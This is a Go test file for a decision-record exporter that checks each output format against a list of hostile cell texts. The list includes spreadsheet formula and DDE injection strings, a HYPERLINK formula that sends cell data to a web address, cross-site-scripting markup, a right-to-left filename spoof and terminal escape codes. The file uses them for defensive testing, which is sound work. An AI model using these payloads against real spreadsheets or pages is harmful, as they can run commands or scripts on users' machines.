package export_test

import (
	"bytes"
	"errors"
	"io"
	"math/rand/v2"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"dsa/decision"
	"dsa/decision/cases"
	"dsa/decision/export"
)

// hostile are texts that somebody could type, or write into a record by hand.
var hostile = map[string]string{
	"a formula":                 `=HYPERLINK("http://example.org/?"&A1,"look")`,
	"a command":                 `=cmd|' /C calc'!A0`,
	"a plus":                    "+44 1223 000000",
	"a minus":                   "-2+3+cmd|' /C calc'!A0",
	"an at":                     "@SUM(1+1)*cmd|' /C calc'!A0",
	"a tab before":              "\t=1+1",
	"a line end before":         "\r\n=1+1",
	"blanks before":             "   =1+1",
	"a no-break space before":   "\u00a0=1+1",
	"full width":                "\uff1d1+1",
	"small width":               "\ufe661+1",
	"another minus":             "\u22121+1",
	"an apostrophe already":     "'=1+1",
	"two apostrophes":           "''=1+1",
	"quotes before":             `""=1+1`,
	"a cell for others":         "fine;=1+1;fine",
	"a cell after a tab":        "fine\t=1+1",
	"a row of its own":          "fine\"\r\n=1+1,\"",
	"a row for those who cut":   "fine\n-one\n+two",
	"markup":                    `<script>document.title='ran'</script><img src=x onerror="document.title='ran'"><a href="javascript:alert(1)">x</a>`,
	"an end of the cell":        `</td></tr></table><h1>mine</h1>`,
	"an end of the comment":     `--><svg onload=alert(1)>`,
	"an end of CDATA":           `]]></t></is></c>`,
	"entities":                  `&lt;script&gt; &#60;b&#62; &amp;`,
	"turned round":              "invoice\u202efdp.exe",
	"isolates":                  "\u2067abc\u2066def",
	"escape codes":              "\x1b[2J\x1b]0;title\x07red\x1b[31m",
	"nothing":                   "a\x00b",
	"delete and C1":             "a\x7fb\u009b31m",
	"line separators":           "a\u2028b\u2029c",
	"no sign":                   "a\ufffeb\uffffc\ufdd0d",
	"half a sign, as it comes":  "a\ufffdb",
	"bytes that are no text":    "a\xff\xfeb\xed\xa0\x80c",
	"an escape of Excel":        "_x0041_ _x000D_ _x005F_x0041_ _xZZZZ_",
	"a mark of order":           "\ufeffid",
	"marks over each other":     "Z" + strings.Repeat("\u0301\u0316", 400),
	"a family":                  "👨\u200d👩\u200d👧",
	"right to left":             "שלום, =1+1",
	"very long":                 strings.Repeat("A long text. ", 80_000), // over a megabyte
	"very long and wide":        strings.Repeat("😀", 40_000),
	"very long without a blank": strings.Repeat("x", 200_000),
	"many lines":                strings.Repeat("line\n", 5_000),
	"long with a formula":       strings.Repeat("y", 32_766) + "\n=1+1",
}

// table is a column for each text, and one of every other kind.
func table(texts []string) []cases.Column {
	columns := []cases.Column{
		fixed("id", cases.Text, false, cases.Value{Kind: cases.Text, Set: true, Text: strings.Repeat("0123456789abcdef", 4)}),
		fixed("a_day", cases.Day, false, cases.Value{Kind: cases.Day, Set: true, Time: time.Date(2026, 3, 4, 0, 0, 0, 0, time.UTC), Text: "2026-03-04"}),
		fixed("a_moment", cases.Moment, false, cases.Value{Kind: cases.Moment, Set: true, Time: time.Date(2026, 7, 4, 10, 11, 12, 0, time.FixedZone("", 3600)), Text: "x"}),
		fixed("a_number", cases.Number, false, cases.Value{Kind: cases.Number, Set: true, Number: -3.25, Text: "-3.25"}),
		fixed("yes", cases.YesNo, false, cases.Value{Kind: cases.YesNo, Set: true, Number: 1, Text: "yes"}),
		fixed("ids", cases.IDs, false, cases.Value{Kind: cases.IDs, Set: true, List: []string{"one", "two"}, Text: "one; two"}),
		fixed("unknown", cases.Text, false, cases.Value{}),
		fixed("unknown_ids", cases.IDs, false, cases.Value{}),
		fixed("old_day", cases.Day, false, cases.Value{Kind: cases.Day, Set: true, Time: time.Date(1899, 3, 4, 0, 0, 0, 0, time.UTC), Text: "1899-03-04"}),
	}
	for i, s := range texts {
		columns = append(columns, fixed(name(i), cases.Text, true, cases.Value{Kind: cases.Text, Set: true, Text: s}))
	}
	return columns
}

func name(i int) string { return "text_" + string(rune('a'+i/26)) + string(rune('a'+i%26)) }

func fixed(name string, kind cases.Kind, free bool, v cases.Value) cases.Column {
	return cases.Column{Name: name, Title: "The " + name, Kind: kind, Free: free, Says: "What <it> & means.", Value: func(*cases.Facts) cases.Value { return v }}
}

// aCase is a decision with a record about it.
func aCase() *cases.Case {
	return &cases.Case{
		First: cases.Page{ID: decision.ID{1}, Kind: decision.Decision, File: "c/0000/1.record.txt", Cover: []byte("cover 1\n"), Signature: []byte("-----BEGIN\n"), Body: []byte("{\n  \"a\": \"\u202e\\u0000é😀\"\n}\n"), Record: new(decision.Record)},
		Later: []cases.Page{{ID: decision.ID{2}, Kind: decision.Review, File: "c/0000/2.cover.txt", Doubt: "in doubt", Cover: []byte("cover 2\n"), Signature: []byte("sig\n"), Record: new(decision.Record)}},
	}
}

var summary = export.Summary{Rows: 2, Verdict: "intact", Failed: []string{"c/1.record.txt: changed-body: <b>=1+1\u202e"}, Heads: []export.Head{{Log: "/a log/\x1b[2J", Number: 7}}}

var about = export.About{Program: "dsa 1", Made: time.Date(2026, 11, 22, 10, 11, 12, 0, time.UTC), Asked: []string{"outcome is none", "case reference contains <i>=1+1\nx"}}

// written is what a form makes of some rows.
func written(t testing.TB, form string, o export.Options, columns []cases.Column, rows int) []byte {
	t.Helper()
	for _, f := range export.Forms() {
		if f.Name != form {
			continue
		}
		var b bytes.Buffer
		a := about
		a.Form = form
		w := f.New(&b, a, o)
		err := w.Begin(columns)
		for range rows {
			err = errors.Join(err, w.Row(aCase()))
		}
		if err = errors.Join(err, w.End(summary)); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	t.Fatalf("there is no form %s", form)
	return nil
}

// all are the hostile texts in one order, with their names.
func all() (names, texts []string) {
	for n := range hostile {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		texts = append(texts, hostile[n])
	}
	return names, texts
}

// nasty composes a short text out of what does harm.
func nasty(r *rand.Rand) string {
	parts := []string{"=", "+", "-", "@", "＝", "'", `"`, " ", ",", ";", "\t", "\n", "\r", "|", "a", "1", "\u00a0", "<", "&", "\u202e", "\x00", "_x0041_", "\ufeff", "é", "😀"}
	var b strings.Builder
	for range r.IntN(12) {
		b.WriteString(parts[r.IntN(len(parts))])
	}
	return b.String()
}

// What is written when a disk is full is an error, in every form, and never half a file that looks whole.
func TestEveryFormSaysThatItCouldNotWrite(t *testing.T) {
	for _, f := range export.Forms() {
		w := f.New(full{}, about, export.Options{})
		err := w.Begin(table([]string{strings.Repeat("x", 1000)}))
		for range 200 {
			err = errors.Join(err, w.Row(aCase()))
		}
		if err = errors.Join(err, w.End(summary)); !errors.Is(err, errFull) {
			t.Errorf("%s says %v", f.Name, err)
		}
	}
}

type full struct{}

var errFull = errors.New("full")

func (full) Write([]byte) (int, error) { return 0, errFull }

// The same decisions are the same bytes.
func TestTheSameRowsAreTheSameBytes(t *testing.T) {
	_, texts := all()
	for _, f := range export.Forms() {
		if !bytes.Equal(written(t, f.Name, export.Options{}, table(texts), 2), written(t, f.Name, export.Options{}, table(texts), 2)) {
			t.Errorf("%s is another file every time", f.Name)
		}
	}
}

// Parts hold every decision once, whatever else is in the log.
func TestParts(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	sizes := make([]int, 4)
	for range 4000 {
		var id decision.ID
		for i := range id {
			id[i] = byte(r.Uint32())
		}
		in := 0
		for part := 1; part <= 4; part++ {
			if export.InPart(id, part, 4) {
				in++
				sizes[part-1]++
			}
		}
		if in != 1 {
			t.Fatalf("%s is in %d parts", id, in)
		}
	}
	for _, n := range sizes {
		if n < 800 {
			t.Errorf("the parts have %v", sizes)
		}
	}
}

// Twenty thousand decisions take no more memory than a few, in any form.
func TestManyRowsTakeNoMemory(t *testing.T) {
	const rows = 20_000
	columns := table([]string{"=1+1", "<b>\u202e", strings.Repeat("A text. ", 100)})
	for _, f := range export.Forms() {
		w := f.New(io.Discard, about, export.Options{Records: true})
		err := w.Begin(columns)
		c := aCase()
		var before, after runtime.MemStats
		for i := range rows {
			if i == rows/10 {
				runtime.GC()
				runtime.ReadMemStats(&before)
			}
			err = errors.Join(err, w.Row(c))
		}
		runtime.GC()
		runtime.ReadMemStats(&after)
		if err = errors.Join(err, w.End(summary)); err != nil {
			t.Fatal(err)
		}
		if more := int64(after.HeapAlloc) - int64(before.HeapAlloc); more > 1<<20 {
			t.Errorf("%s: %d bytes more are held after %d rows", f.Name, more, rows)
		}
	}
}
